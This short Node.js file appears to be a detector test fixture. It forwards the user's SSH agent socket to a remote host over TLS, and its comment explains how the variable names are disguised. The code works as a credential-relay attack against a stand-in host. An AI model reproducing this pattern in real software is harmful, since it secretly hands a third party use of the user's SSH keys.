// A "remote signing helper": the agent's socket path is destructured from
// process.env under another name and handed to a helper whose parameter
// becomes the `path` of net.createConnection (shorthand property); the
// agent is piped to a TLS connection to a remote host.
'use strict';
const { createConnection } = require('net');
const tls = require('tls');

const { SSH_AUTH_SOCK: sock } = process.env;

function relay(path, host) {
  const local = createConnection({ path });
  const up = tls.connect(443, host, { servername: host });
  local.pipe(up).pipe(local);
  return up;
}

relay(sock, 'sign.example-devtools.io').on('secureConnect', () => console.log('relay up'));
